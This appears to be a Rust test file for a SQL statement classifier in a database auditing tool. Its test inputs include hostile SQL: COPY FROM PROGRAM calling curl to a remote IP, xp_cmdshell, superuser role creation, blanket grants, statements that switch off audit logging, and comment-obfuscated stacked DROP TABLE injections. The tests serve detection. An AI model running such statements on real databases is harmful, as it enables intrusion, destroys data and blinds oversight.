//! Tables of statements and what they are.

use proptest::prelude::*;

use super::*;

fn check(text: &str, event: &str, class: &str, command: &str, object: &str) {
    let statement = classify(text.as_bytes());
    let found =
        (statement.event(), statement.class(), std::str::from_utf8(statement.command()).unwrap(), std::str::from_utf8(statement.object).unwrap());
    assert_eq!(found, (event, class, command, object), "{text}");
}

#[test]
fn every_kind() {
    check("select * from t", "query", "READ", "SELECT", "");
    check("  /* hi */ -- x\n (SELECT 1)", "query", "READ", "SELECT", "");
    check("insert into public.t values (1)", "query", "WRITE", "INSERT", "public.t");
    check("WITH x AS (SELECT 1) DELETE FROM t", "query", "WRITE", "WITH", "");
    check("CREATE TABLE IF NOT EXISTS \"my table\"(id int)", "ddl", "DDL", "CREATE TABLE", "\"my table\"");
    check("CREATE OR REPLACE FUNCTION f() RETURNS int", "ddl", "DDL", "CREATE FUNCTION", "f");
    check("drop database shop", "ddl", "DDL", "DROP DATABASE", "shop");
    check("CREATE ROLE evil SUPERUSER LOGIN", "account_change", "ROLE", "CREATE ROLE", "evil");
    check("ALTER USER 'evil'@'%' IDENTIFIED BY 'x'", "account_change", "ROLE", "ALTER USER", "'evil'@'%'");
    check("SET PASSWORD FOR 'a'@'%' = 'x'", "account_change", "ROLE", "SET PASSWORD", "");
    check("GRANT ALL ON *.* TO 'evil'@'%' WITH GRANT OPTION", "grant", "ROLE", "GRANT", "");
    check("ALTER DEFAULT PRIVILEGES IN SCHEMA x GRANT SELECT ON TABLES TO y", "grant", "ROLE", "ALTER DEFAULT PRIVILEGES", "IN");
    check("ALTER SYSTEM SET work_mem = 1", "config_change", "DDL", "ALTER SYSTEM", "SET");
    check("SET GLOBAL max_connections = 1", "config_change", "DDL", "SET", "max_connections");
    check("SET work_mem = '1MB'", "query", "MISC_SET", "SET", "work_mem");
    check("BEGIN", "query", "MISC", "BEGIN", "");
    check("CALL mysql.rds_set_configuration('x', 1)", "config_change", "DDL", "CALL", "mysql.rds_set_configuration");
    check("EXEC xp_cmdshell 'dir'", "query", "READ", "EXEC", "xp_cmdshell");
    check("", "query", "MISC", "", "");
}

#[test]
fn copies() {
    check("COPY t FROM PROGRAM 'curl http://198.51.100.1/x'", "query", "READ", "COPY FROM PROGRAM", "t");
    check("COPY (SELECT * FROM t) TO STDOUT", "query", "READ", "COPY TO", "");
    check("copy public.t (a, b) to '/tmp/x'", "query", "READ", "COPY TO FILE", "public.t");
    check("COPY t FROM stdin", "query", "WRITE", "COPY FROM", "t");
    check("SELECT * INTO OUTFILE '/tmp/x' FROM t", "query", "READ", "SELECT INTO OUTFILE", "");
}

#[test]
fn the_audit() {
    for text in [
        "SET GLOBAL server_audit_logging=OFF",
        "SET @@global.server_audit_logging = 0",
        "SET GLOBAL max_connections = 5, general_log=OFF",
        "UNINSTALL PLUGIN server_audit",
        "UNINSTALL SONAME 'server_audit.so'",
        "SET pgaudit.log = 'none'",
        "ALTER ROLE app SET pgaudit.log = 'none'",
        "ALTER DATABASE shop SET pgaudit.log = 'none'",
        "ALTER SYSTEM SET log_connections = off",
        "RESET pgaudit.log",
        "DROP SERVER AUDIT a",
        "ALTER DATABASE AUDIT SPECIFICATION s WITH (STATE = OFF)",
    ] {
        assert_eq!(classify(text.as_bytes()).event(), "audit_change", "{text}");
    }
}

#[test]
fn nothing_hides() {
    for (text, event) in [
        ("select 1; DROP TABLE t", "ddl"),
        ("select ';'; drop table t;", "ddl"),
        ("/*!50000 DROP TABLE t */", "ddl"),
        ("/*M!100100 GRANT ALL ON *.* TO x */", "grant"),
        ("select 1; -- ;\n grant a to b;", "grant"),
        ("/**/CREATE/**/ROLE/**/x", "account_change"),
        ("select ';drop table x'", "query"),
        ("select $$;drop table x;$$", "query"),
        ("PREPARE s FROM 'DROP TABLE x'", "ddl"),
        ("EXPLAIN ANALYZE DELETE FROM t", "query"),
        ("# comment\nDROP TABLE t", "ddl"),
    ] {
        assert_eq!(classify(text.as_bytes()).event(), event, "{text}");
    }
}

proptest! {
    #[test]
    fn never_panics(text in r#"(?s)((create|alter|drop|set|copy|from|to|grant|role|global|/\*!?|\*/|--|;|'|"|`|\$|\[|#|\n|,|=|[ a-z]|.){0,60})"#) {
        let _ = classify(text.as_bytes()).command();
    }
}

#[test]
fn linear() {
    for part in ["; ", "'", "$a$", "/*", "--\n", "set ", "select o", "copy a to ", "create or "] {
        let text = part.repeat(1 << 18);
        let start = std::time::Instant::now();
        classify(text.as_bytes());
        assert!(start.elapsed().as_secs() < 5, "{part:?}");
    }
}
